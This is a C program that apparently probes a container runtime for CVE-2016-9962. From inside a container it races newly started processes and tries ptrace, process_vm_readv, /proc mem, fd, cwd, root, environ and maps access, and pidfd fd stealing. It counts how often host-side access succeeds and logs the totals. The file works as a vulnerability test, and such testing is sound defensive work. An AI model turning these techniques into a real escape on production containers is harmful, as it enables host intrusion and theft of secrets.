#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/* CVE-2016-9962: looks into every process that comes by, in each way that there is, while it is not yet the
 * container's own program. What a process runs from goes only one way, from a file outside to one inside; so what was
 * opened of it while it still runs from outside afterwards was opened too early. The log is replaced whole. */

enum { WAYS = 9, LOOKS = 64 };
static const char *const ways[WAYS] = {"trace", "read memory", "mem", "fd", "cwd", "root", "environ", "maps", "steal fd"};
static unsigned seen, hits[WAYS], secrets, climbs;
static struct stat own_root;

/* Whether it runs from a file that is not in this container, or may not be asked. */
static int outside(int pid) {
    char path[64], name[512];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, name, sizeof name - 1);
    struct stat running, inside;
    if (length < 0 || stat(path, &running)) return 0;
    name[length] = 0;
    return stat(name, &inside) || inside.st_dev != running.st_dev || inside.st_ino != running.st_ino;
}

static void tell_secret(const char *text, ssize_t length) {
    if (length > 0 && memmem(text, length, "CFD_SECRET", 10)) secrets++;
}

static int open_of(int pid, const char *name, int flags) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return open(path, flags | O_CLOEXEC | O_NONBLOCK);
}

/* A directory outside, from which one gets further up: all of its file system. */
static void climb(int file) {
    struct stat here, up;
    if (fstat(file, &here) || !S_ISDIR(here.st_mode)) return;
    int above = openat(file, "..", O_PATH | O_CLOEXEC);
    if (above < 0) return;
    fstat(above, &up);
    close(above);
    climbs += up.st_dev != here.st_dev || up.st_ino != here.st_ino;
}

static int try_way(int pid, int way) {
    static char text[1 << 16];
    int file = -1, caught = 0;
    switch (way) {
    case 0:
        if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return 0;
        caught = outside(pid);
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, 0, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return caught;
    case 1: {
        struct iovec here = {text, 64}, there = {(void *)0x400000, 64};
        ssize_t got = process_vm_readv(pid, &here, 1, &there, 1, 0);
        return (got >= 0 || errno == EFAULT) && outside(pid);
    }
    case 2: file = open_of(pid, "mem", O_RDONLY); break;
    case 3: {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/fd", pid);
        DIR *all = opendir(path);
        struct dirent *one;
        while (all && (one = readdir(all)))
            if (one->d_name[0] != '.') {
                snprintf(path, sizeof path, "fd/%.16s", one->d_name);
                file = open_of(pid, path, O_PATH);
                if (file >= 0) climb(file), close(file), caught = 1;
            }
        if (all) closedir(all);
        return caught && outside(pid);
    }
    case 4: file = open_of(pid, "cwd", O_PATH); break;
    case 5: file = open_of(pid, "root", O_PATH); break;
    case 6: file = open_of(pid, "environ", O_RDONLY); break;
    case 7: file = open_of(pid, "maps", O_RDONLY); break;
    case 8: {
        int handle = syscall(SYS_pidfd_open, pid, 0);
        if (handle < 0) return 0;
        for (int number = 0; number < 16; number++) {
            int got = syscall(SYS_pidfd_getfd, handle, number, 0);
            if (got >= 0) close(got), caught = 1;
        }
        close(handle);
        return caught && outside(pid);
    }
    }
    if (file < 0) return 0;
    ssize_t length = way == 6 || way == 7 ? read(file, text, sizeof text) : 0;
    tell_secret(text, length);
    struct stat root;
    caught = way == 4 || way == 5 ? fstat(file, &root) == 0 && (root.st_dev != own_root.st_dev || root.st_ino != own_root.st_ino) : length > 0 || way == 2;
    close(file);
    return (way == 4 || way == 5) ? caught : caught && outside(pid);
}

static void tell(void) {
    FILE *log = fopen("/spy.new", "w");
    if (!log) return;
    fprintf(log, "{\"seen\": %u, \"secrets\": %u, \"climbs\": %u", seen, secrets, climbs);
    for (int way = 0; way < WAYS; way++) fprintf(log, ", \"%s\": %u", ways[way], hits[way]);
    fprintf(log, "}\n");
    fclose(log);
    rename("/spy.new", "/spy.log");
}

int main(void) {
    stat("/", &own_root);
    int last = 1;
    for (unsigned round = 0;; round++) {
        /* The next process has the next number, or one soon after. */
        for (int pid = last + 1; pid < last + 4; pid++)
            if (!kill(pid, 0)) {
                seen++;
                for (int turn = 0; turn < LOOKS && !kill(pid, 0); turn++) {
                    int way = (round + turn) % WAYS;
                    hits[way] += try_way(pid, way);
                }
                last = pid;
            }
        if (round % 4096 == 0) {
            tell();
            /* Numbers begin again, or were skipped. */
            FILE *file = fopen("/proc/loadavg", "r");
            int newest = 0;
            if (file && fscanf(file, "%*s %*s %*s %*s %d", &newest) == 1) last = newest;
            if (file) fclose(file);
        }
        while (waitpid(-1, 0, WNOHANG) > 0) {}
    }
}
